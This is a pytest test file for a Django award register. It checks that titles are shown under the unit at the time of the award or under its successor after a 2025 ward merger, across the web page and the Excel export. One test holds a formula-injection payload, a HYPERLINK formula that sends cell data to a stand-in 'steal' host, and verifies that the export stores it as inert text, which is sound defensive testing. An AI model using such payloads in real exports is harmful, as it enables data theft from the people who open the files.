"""Reports by the unit then or by its successor today (issue 17): the award register (page and Excel export)
names each title's unit as it was when awarded, or, on request, the units that continue it today
(organisations.timeline.successors_of); a unit filter in the successor view also finds the titles of the units
it continues."""

from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dossiers.models import AwardType
from organisations.models import SuccessionKind, UnitKind
from tests.factories import AwardRecordFactory, NomineeFactory, UnitFactory
from workflows.audit import SYSTEM
from workflows.models import Role
from workflows.organisation_services import unit_succession_record

pytestmark = pytest.mark.django_db

REFORM_DAY = date(2025, 7, 1)


@pytest.fixture
def merged():
    """Phường Tân An and Thới Bình merged into phường Ninh Kiều from 1 July 2025; a title won at Tân An in 2024,
    one at the new ward in 2025."""
    tan_an = UnitFactory(code="tan-an", name="UBND phường Tân An", kind=UnitKind.LOCALITY)
    thoi_binh = UnitFactory(code="thoi-binh", name="UBND phường Thới Bình", kind=UnitKind.LOCALITY)
    ninh_kieu = UnitFactory(code="p-ninh-kieu", name="UBND phường Ninh Kiều", valid_from=REFORM_DAY)
    unit_succession_record(
        predecessors=[tan_an, thoi_binh],
        successor=ninh_kieu,
        kind=SuccessionKind.MERGE,
        effective_on=REFORM_DAY,
        legal_act="Nghị quyết 1668/NQ-UBTVQH15",
        actor=SYSTEM,
    )
    award = AwardType.objects.filter(code="cstdcs").order_by("pk").first()
    old = AwardRecordFactory(
        nominee=NomineeFactory(unit=tan_an, full_name="Phạm Thị Cũ"),
        award=award,
        year=2024,
        decision_number="11/QĐ-UBND",
        decision_date=date(2024, 12, 20),
    )
    new = AwardRecordFactory(
        nominee=NomineeFactory(unit=ninh_kieu, full_name="Võ Văn Mới"),
        award=award,
        year=2025,
        decision_number="22/QĐ-UBND",
        decision_date=date(2025, 12, 20),
    )
    return {"tan_an": tan_an, "ninh_kieu": ninh_kieu, "old": old, "new": new}


@pytest.fixture
def board(client, person):
    client.force_login(person("register.board", Role.BOARD_OFFICER))
    return client


def _row(page: str, number: str) -> str:
    """The table row of the record with this decision number."""
    start = page.index(number)
    return page[page.rindex("<tr>", 0, start) : page.index("</tr>", start)]


def test_the_page_names_the_unit_then_by_default_and_the_successor_on_request(board, merged):
    url = reverse("dossiers:register")
    then = board.get(url).content.decode()
    assert "Đơn vị lúc được khen" in then
    assert "UBND phường Tân An" in _row(then, "11/QĐ-UBND")
    successor = board.get(url, {"unit_view": "successor"}).content.decode()
    assert "Đơn vị kế thừa hiện nay" in successor
    row = _row(successor, "11/QĐ-UBND")
    assert "UBND phường Ninh Kiều" in row and "Tân An" not in row
    assert "UBND phường Ninh Kiều" in _row(successor, "22/QĐ-UBND")


def test_a_unit_filter_in_the_successor_view_finds_the_titles_of_the_units_it_continues(board, merged):
    url = reverse("dossiers:register")
    ninh_kieu = merged["ninh_kieu"].pk
    then = board.get(url, {"unit": ninh_kieu, "unit_view": "then"}).content.decode()
    assert "22/QĐ-UBND" in then and "11/QĐ-UBND" not in then
    successor = board.get(url, {"unit": ninh_kieu, "unit_view": "successor"}).content.decode()
    assert "22/QĐ-UBND" in successor and "11/QĐ-UBND" in successor
    old_ward = board.get(url, {"unit": merged["tan_an"].pk, "unit_view": "successor"}).content.decode()
    assert "11/QĐ-UBND" in old_ward and "22/QĐ-UBND" not in old_ward


def _sheet(response) -> list[tuple]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(response.content)).active
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def _data_rows(rows) -> dict[str, tuple]:
    header = next(i for i, row in enumerate(rows) if row and row[0] == "STT")
    return {row[6]: row for row in rows[header + 1 :] if row and row[0]}


def test_the_excel_export_follows_the_chosen_view(board, merged):
    url = reverse("dossiers:register_excel")
    rows = _sheet(board.get(url))
    assert any(row and row[0] == "Theo đơn vị lúc đó" for row in rows)
    data = _data_rows(rows)
    assert data["11/QĐ-UBND"][3] == "UBND phường Tân An"
    rows = _sheet(board.get(url, {"unit_view": "successor", "unit": merged["ninh_kieu"].pk}))
    assert any(row and row[0] == "Theo đơn vị kế thừa hiện nay" for row in rows)
    data = _data_rows(rows)
    assert set(data) == {"11/QĐ-UBND", "22/QĐ-UBND"}
    assert data["11/QĐ-UBND"][3] == "UBND phường Ninh Kiều"
    assert data["11/QĐ-UBND"][4] == "UBND phường Tân An"  # the person's own unit, as recorded


def test_a_unit_reads_only_its_rows_in_the_export(client, person, merged):
    client.force_login(person("register.ward", Role.UNIT_OFFICER, unit=merged["ninh_kieu"]))
    data = _data_rows(_sheet(client.get(reverse("dossiers:register_excel"))))
    assert set(data) == {"22/QĐ-UBND"}


def test_the_export_keeps_formula_text_inert(board, merged):
    """A name typed like a formula reads back as text, never a live formula (issue 12, item 4)."""
    payload = '=HYPERLINK("http://x.example/steal?d="&A1,"Bấm vào đây")'
    AwardRecordFactory(
        nominee=NomineeFactory(unit=merged["ninh_kieu"], full_name=payload),
        award=merged["new"].award,
        year=2025,
        decision_number="33/QĐ-UBND",
        decision_date=date(2025, 12, 21),
    )
    response = board.get(reverse("dossiers:register_excel"))
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == payload]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
